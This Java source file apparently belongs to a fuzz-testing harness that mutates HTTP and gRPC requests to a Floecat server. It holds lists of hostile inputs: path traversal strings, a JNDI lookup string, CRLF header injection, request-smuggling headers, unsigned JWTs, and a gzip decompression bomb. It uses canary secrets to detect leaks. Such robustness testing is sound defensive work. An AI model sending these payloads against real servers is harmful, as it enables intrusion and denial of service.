package io.floecat.server.hostile;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.Arrays;
import java.util.List;
import java.util.function.BiConsumer;
import java.util.random.RandomGenerator;
import java.util.zip.GZIPOutputStream;

/** What can be done to a request before it is written down: to its path, query, headers, body. */
final class Changes {

  private static final int LARGE = 1_200_000;
  private static final byte[] BOMB = gzip(new byte[8 << 20]);

  /** One kind of change; its name is in the report of a failure. */
  record Change(String name, BiConsumer<Draft, Changes> apply) {}

  private static final List<String> VERBS =
      List.of(
          "GET",
          "POST",
          "PUT",
          "PATCH",
          "DELETE",
          "HEAD",
          "OPTIONS",
          "TRACE",
          "CONNECT",
          "PRI",
          "get",
          "CNRY",
          "PO\u00e4T",
          "");

  private static final List<String> PATH_TRICKS =
      List.of(
          "%2F",
          "%2f",
          "%5C",
          "\\",
          "/../",
          "/./",
          "//",
          "/..%2f",
          "%2e%2e/",
          ";v=1",
          "%00",
          "\0",
          "%0d%0a",
          "\r",
          "%",
          "%zz",
          "%c0%af",
          "%ff",
          "\u00ff",
          "\u00d0\u00b0",
          " ",
          "\t",
          "#x",
          "@",
          ":check",
          ":expunge",
          ":",
          "*",
          "-",
          "?",
          "{}",
          "[",
          "|",
          "%25%32%46",
          "%u002f");

  private static final List<String> PATHS =
      List.of(
          "",
          "/",
          "*",
          "//",
          "http://elsewhere.example/v1/accounts/a/connectors",
          "/v1",
          "/v1/",
          "http://127.0.0.1:1/healthz",
          "elsewhere.example:443",
          "/healthz",
          "/readyz",
          "/docs",
          "/metrics",
          "/v1/accounts/-/connectors",
          "/grpc.health.v1.Health/Check",
          "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
          "/floecat.v1.Connectors/Steal",
          "/floecat.v1.Connectors/",
          "/floecat.v2.Connectors/GetConnector",
          "floecat",
          "/\u00ff");

  private static final List<String> BODY_TRICKS =
      List.of(
          "null",
          "{}",
          "[]",
          "1e999999",
          "-0",
          "9".repeat(400),
          "0x10",
          "NaN",
          "true",
          "\"\"",
          "\"\\ud800\"",
          "\"\\u0000\"",
          "\"\\x\"",
          "'a'",
          "\u00ff\u00fe",
          "\u00c0\u0080",
          "\u00ed\u00a0\u0080",
          "\u00ef\u00bb\u00bf",
          "\0",
          "/*x*/",
          "//x\n",
          ",",
          ",,",
          ":",
          "}",
          "]",
          "{\"",
          "\"@type\":\"type.googleapis.com/x\",",
          "\"__proto__\":{},",
          "${jndi:ldap://x/a}",
          "%s%n",
          "\u000b",
          "\u00f8\u0088\u0080\u0080\u0080",
          "\n\u0010",
          "\u00ff\u00ff\u00ff\u00ff\u000f");

  private static final List<String> TYPES =
      List.of(
          "application/json",
          "application/json; charset=utf-16",
          "application/grpc+json",
          "application/grpc-web",
          "application/grpc-web-text",
          "application/grpc+proto",
          "application/grpc+cnry",
          "application/grpc",
          "application/x-protobuf",
          "text/plain",
          "application/json; charset=cnry",
          "multipart/form-data; boundary=x",
          "application/",
          "/",
          "",
          "application/json, application/grpc",
          "application/grpc; charset=\u00ff",
          "application/x-www-form-urlencoded",
          "*/*");

  private static final List<Change> ALL =
      List.of(
          new Change("path: trick inside", Changes::trickInPath),
          new Change("path: replaced", Changes::otherPath),
          new Change("path: longer", (draft, in) -> draft.path += "/" + in.random.nextInt()),
          new Change("path: a byte", (draft, in) -> draft.path = in.damaged(draft.path)),
          new Change("query: trick", Changes::trickInQuery),
          new Change("query: a byte", (draft, in) -> draft.query = in.damaged(draft.query)),
          new Change("query: twice", (draft, in) -> draft.query += "&" + draft.query),
          new Change("verb: other", (draft, in) -> draft.verb = in.one(VERBS)),
          new Change("header: one more", Changes::moreHeader),
          new Change("header: content type", Changes::contentType),
          new Change("header: many", Changes::manyHeaders),
          new Change("header: authorization", Changes::authorization),
          new Change("body: bytes", (draft, in) -> draft.body = in.damaged(draft.body)),
          new Change("body: bytes", (draft, in) -> draft.body = in.damaged(draft.body)),
          new Change("body: cut", Changes::cut),
          new Change("body: a part again", Changes::again),
          new Change("body: trick inside", Changes::trickInBody),
          new Change("body: trick inside", Changes::trickInBody),
          new Change("body: nested", Changes::nested),
          new Change("body: huge", Changes::huge),
          new Change("body: random", (draft, in) -> draft.body = in.bytes(in.random.nextInt(300))),
          new Change("body: compressed", Changes::compressed),
          new Change("frame: flag and length", Changes::frame),
          new Change("frame: two messages", Changes::twoMessages));

  private final RandomGenerator random;
  private final Canary canary;

  Changes(RandomGenerator random, Canary canary) {
    this.random = random;
    this.canary = canary;
  }

  /** Changes one thing. */
  void change(Draft draft) {
    Change change = one(ALL);
    draft.changes.add(change.name());
    change.apply().accept(draft, this);
  }

  private static void trickInPath(Draft draft, Changes in) {
    int at = in.random.nextInt(draft.path.length() + 1);
    // No name can have this mark: errors repeat names, which are no secrets.
    String trick = in.one(PATH_TRICKS) + (in.random.nextBoolean() ? in.canary.value() + "!" : "");
    draft.path = draft.path.substring(0, at) + trick + draft.path.substring(at);
  }

  private static void otherPath(Draft draft, Changes in) {
    draft.path = in.one(PATHS);
  }

  private static void trickInQuery(Draft draft, Changes in) {
    List<String> tricks =
        List.of(
            "x=" + in.canary.secret(),
            in.canary.secret(),
            "=" + in.canary.value(),
            "&&",
            "a;b=c",
            "validateOnly=" + in.canary.value(),
            "pageSize=99999999999",
            "pageSize=-1",
            "pageToken=" + in.canary.value(),
            "filter=" + in.canary.value() + "%20%3D%20x",
            "filter=%22",
            "filter=" + "(".repeat(500),
            "updateMask=" + in.canary.value(),
            "updateMask=a..b%60",
            "updateMask=" + "auth.headers.X,".repeat(300),
            "etag=%00",
            "requestId=" + in.canary.value(),
            "connectorId=../" + in.canary.value(),
            "parent=accounts/other",
            "connector.uri=x",
            "%ff=%ff",
            "showDeleted=TRUE",
            "pageSize=1&page_size=2",
            "%",
            "a=%0d%0aSet-Cookie:x",
            "alt=" + in.canary.value(),
            "access_token=" + in.canary.secret(),
            "a".repeat(17_000));
    draft.query += (draft.query.isEmpty() ? "" : "&") + in.one(tricks);
  }

  private static void moreHeader(Draft draft, Changes in) {
    List<String> tricks =
        List.of(
            "x-correlation-id: " + in.canary.secret() + "!",
            "x-correlation-id: ",
            "x-forwarded-for: cnry",
            "forwarded: for=\"[::\";host=x",
            "x-forwarded-for: 999.1.1.1, ::1",
            "host: elsewhere.example",
            "host: a b",
            "content-length: 5",
            "content-length: -1",
            "content-length: +5",
            "content-length: 5, 6",
            "content-length: 99999999999999999999",
            "transfer-encoding: chunked",
            "transfer-encoding: identity, chunked",
            "transfer-encoding: cnry",
            "expect: 100-continue",
            "expect: cnry",
            "upgrade: h2c",
            "connection: upgrade, http2-settings",
            "connection: close",
            "http2-settings: AAMAAABkAAQAAP__",
            "http2-settings: \u00ff",
            "upgrade: websocket",
            "content-encoding: gzip",
            "content-encoding: br",
            "accept-encoding: gzip;q=cnry",
            "grpc-encoding: gzip",
            "grpc-encoding: cnry",
            "grpc-accept-encoding: cnry",
            "grpc-timeout: 0n",
            "grpc-timeout: 99999999H",
            "grpc-timeout: cnry",
            "grpc-timeout: -1S",
            "grpc-message-type: x",
            "grpc-trace-bin: %%%",
            "x-bin: " + in.canary.secret(),
            "range: bytes=0-",
            "cookie: " + in.canary.secret(),
            "origin: null",
            "trailer: content-length",
            "te: trailers",
            "proxy-authorization: Basic " + in.canary.secret(),
            "x-http-method-override: DELETE",
            ":path: /healthz",
            ":method: GET",
            "x y: z",
            "x-\u00ff: \u00ff",
            ": x",
            "x-long: " + "y".repeat(17_000),
            "if-match: " + in.canary.value(),
            "accept: application/" + in.canary.value(),
            "date: x");
    String trick = in.one(tricks);
    int colon = trick.indexOf(": ", 1);
    draft.header(trick.substring(0, Math.max(colon, 0)), trick.substring(colon + 2));
    draft.changes.add(trick.substring(0, Math.min(trick.length(), 40)));
  }

  private static void contentType(Draft draft, Changes in) {
    draft.headers.removeIf(header -> header[0].equals("content-type"));
    if (in.random.nextInt(8) > 0) {
      draft.header("content-type", in.one(TYPES));
    }
  }

  private static void manyHeaders(Draft draft, Changes in) {
    for (int i = in.random.nextInt(2_000); i > 0; i--) {
      draft.header("x" + i, in.canary.value().substring(0, 8));
    }
  }

  private static void authorization(Draft draft, Changes in) {
    List<String> tricks =
        List.of(
            "Bearer " + in.canary.secret(),
            "Bearer",
            "Bearer ",
            "Basic " + in.canary.secret(),
            "",
            in.canary.secret(),
            "Bearer a b",
            "Bearer \u00ff\u00ff",
            "Bearer " + "x".repeat(10_000),
            "bearer\t" + in.canary.secret(),
            "Bearer eyJhbGciOiJub25lIn0.e30.",
            "Bearer e30.e30.e30");
    if (in.random.nextBoolean()) {
      draft.headers.removeIf(header -> header[0].equals("authorization"));
    }
    draft.header("authorization", in.one(tricks));
  }

  private static void cut(Draft draft, Changes in) {
    draft.body = Arrays.copyOf(draft.body, in.random.nextInt(draft.body.length + 1));
  }

  private static void again(Draft draft, Changes in) {
    int from = in.random.nextInt(draft.body.length + 1);
    int to = from + in.random.nextInt(draft.body.length - from + 1);
    draft.body = in.inserted(draft.body, to, Arrays.copyOfRange(draft.body, from, to));
  }

  private static void trickInBody(Draft draft, Changes in) {
    String trick = in.one(BODY_TRICKS);
    if (in.random.nextInt(4) == 0) {
      trick = "\"" + in.canary.secret() + "\":" + trick + ",";
    }
    int at = in.random.nextInt(draft.body.length + 1);
    draft.body = in.inserted(draft.body, at, trick.getBytes(ISO_8859_1));
  }

  private static void nested(Draft draft, Changes in) {
    List<String> units =
        List.of("[", "{\"a\":", "{\"auth\":", "[{\"connector\":", "\u000b", "\n\u0080\u0001");
    byte[] deep = in.one(units).repeat(1 + in.random.nextInt(5_000)).getBytes(ISO_8859_1);
    draft.body =
        draft.isGrpc()
            ? Draft.frame(0, deep)
            : in.inserted(draft.body, in.random.nextInt(draft.body.length + 1), deep);
  }

  private static void huge(Draft draft, Changes in) {
    if (in.random.nextInt(8) > 0) {
      return; // A megabyte now and then is enough.
    }
    byte[] filler = new byte[in.random.nextInt(LARGE)];
    Arrays.fill(filler, (byte) 'a');
    draft.body =
        draft.isGrpc()
            ? Draft.frame(0, filler)
            : in.inserted(draft.body, in.random.nextInt(draft.body.length + 1), filler);
  }

  private static void compressed(Draft draft, Changes in) {
    byte[] plain = draft.body;
    boolean isBomb = in.random.nextInt(3) == 0;
    if (draft.isGrpc()) {
      byte[] message = plain.length > 5 ? Arrays.copyOfRange(plain, 5, plain.length) : plain;
      draft.body = Draft.frame(1, isBomb ? BOMB : gzip(message));
      draft.header("grpc-encoding", "gzip");
    } else {
      draft.body = isBomb ? BOMB : gzip(plain);
      draft.header("content-encoding", "gzip");
    }
  }

  private static void frame(Draft draft, Changes in) {
    if (draft.body.length >= 5) {
      draft.body[in.random.nextInt(5)] = (byte) in.random.nextInt();
    }
  }

  private static void twoMessages(Draft draft, Changes in) {
    draft.body = in.inserted(draft.body, draft.body.length, draft.body.clone());
  }

  private String damaged(String text) {
    return new String(damaged(text.getBytes(ISO_8859_1)), ISO_8859_1);
  }

  private byte[] damaged(byte[] whole) {
    byte[] damaged = whole.clone();
    for (int i = 1 + random.nextInt(4); i > 0 && damaged.length > 0; i--) {
      damaged[random.nextInt(damaged.length)] = (byte) random.nextInt();
    }
    return damaged;
  }

  private byte[] inserted(byte[] whole, int at, byte[] more) {
    byte[] all = Arrays.copyOf(whole, whole.length + more.length);
    System.arraycopy(more, 0, all, at, more.length);
    System.arraycopy(whole, at, all, at + more.length, whole.length - at);
    return all;
  }

  private byte[] bytes(int length) {
    byte[] bytes = new byte[length];
    random.nextBytes(bytes);
    return bytes;
  }

  private <T> T one(List<T> choices) {
    return choices.get(random.nextInt(choices.size()));
  }

  private static byte[] gzip(byte[] plain) {
    var packed = new ByteArrayOutputStream();
    try (var gzip = new GZIPOutputStream(packed)) {
      gzip.write(plain);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return packed.toByteArray();
  }
}
